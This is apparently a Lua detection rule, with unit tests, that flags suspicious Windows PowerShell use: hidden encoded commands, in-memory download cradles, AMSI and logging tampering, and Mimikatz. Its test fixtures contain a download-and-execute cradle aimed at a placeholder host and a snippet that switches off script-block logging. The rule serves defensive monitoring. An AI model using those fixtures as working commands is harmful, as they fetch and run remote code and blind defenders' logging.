local encoded = sample {
  ["host.name"] = "ws-05", ["user.name"] = [[ACME\ana]],
  ["process.executable"] = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
  ["process.parent.executable"] = [[C:\Windows\explorer.exe]],
  ["process.command_line"] = "powershell -noP -sta -w 1 -enc  SQBmACgAJABQAFMAVgBFAHIAUwBpAG8ATgBUAGEAQgBsAEUALgBQAFMA",
}

return rule {
  id       = "windows.suspicious_powershell",
  title    = "PowerShell runs hidden or downloaded code",
  version  = 1,
  severity = "medium",
  type     = "device_compromise",
  mitre    = { "T1059.001", "T1027.010" },
  match    = {
    any {
      {
        ["process.executable|endswith"] = { [[\powershell.exe]], [[\pwsh.exe]], [[\powershell_ise.exe]] },
        any {
          -- -e, -ec, -enc … -EncodedCommand, and what it takes
          ["process.command_line|re|i"] = [[\s[-/]e(c|n[a-z]{0,13})?\s+["']?[a-z0-9+/=]{32,}]],
          ["process.command_line|contains"] = {
            "DownloadString(", "DownloadFile(", "DownloadData(", "Net.WebClient", "FromBase64String(", "IEX (", "IEX(",
          },
        },
      },
      -- The script itself, as PowerShell logs it (4104): switching its own protection off.
      {
        ["powershell.file.script_block_text|contains"] = {
          "cachedGroupPolicySettings", "amsiInitFailed", "AmsiUtils", "Invoke-Mimikatz",
        },
      },
    },
  },
  dedup    = { by = { "host.name", "user.name" }, window = "1h" },
  context  = {
    "host.name", "user.name", "process.command_line", "process.parent.executable", "process.parent.command_line",
    "powershell.file.script_block_text",
  },

  severity_of = function(event)
    local parents = {
      [[\winword.exe]], [[\excel.exe]], [[\outlook.exe]], [[\mshta.exe]], [[\regsvr32.exe]], [[\wsmprovhost.exe]],
      [[\w3wp.exe]], [[\tomcat*.exe]], [[\sqlservr.exe]], [[\wscript.exe]],
    }
    if event:is("process.parent.executable|endswith", parents) then return "high" end
    if event:is("powershell.file.script_block_text|exists", true) then return "high" end
  end,

  false_positives = { "Software distribution and inventory that encode their commands: look at the parent process" },
  runbook  = "Decode the command. Look at the parent, at connections of the process, at what it wrote.",

  tests = {
    { "an encoded command", events = at({ 0 }, encoded), expect = { threats = 1, severity = "medium" } },
    { "out of a document or a service is worse",
      events = at({ 0 }, encoded:with { ["process.parent.executable"] = [[C:\Windows\System32\regsvr32.exe]] }),
      expect = { threats = 1, severity = "high" } },
    { "a download in memory",
      events = at({ 0 }, encoded:with {
        ["process.command_line"] = [[powershell -c "IEX(New-Object Net.WebClient).DownloadString('http://x.example')"]],
      }),
      expect = { threats = 1 } },
    { "a script that blinds its logging",
      events = at({ 0 }, sample {
        ["event.code"] = "4104", ["host.name"] = "ws-05",
        ["powershell.file.script_block_text"] = "[Ref].Assembly.GetType('x').GetField('cachedGroupPolicySettings')",
      }),
      expect = { threats = 1, severity = "high" } },
    { "an ordinary script does not",
      events = at({ 0 }, encoded:with { ["process.command_line"] = [[powershell -NoProfile -File C:\ops\backup.ps1]] }),
      expect = { threats = 0 } },
    { "-ExecutionPolicy is not -EncodedCommand",
      events = at({ 0 }, encoded:with {
        ["process.command_line"] = [[powershell -ExecutionPolicy RemoteSigned -File C:\ops\backup.ps1]],
      }),
      expect = { threats = 0 } },
    { "another program with such an argument does not",
      events = at({ 0 }, encoded:with { ["process.executable"] = [[C:\tools\encode.exe]] }), expect = { threats = 0 } },
  },
}
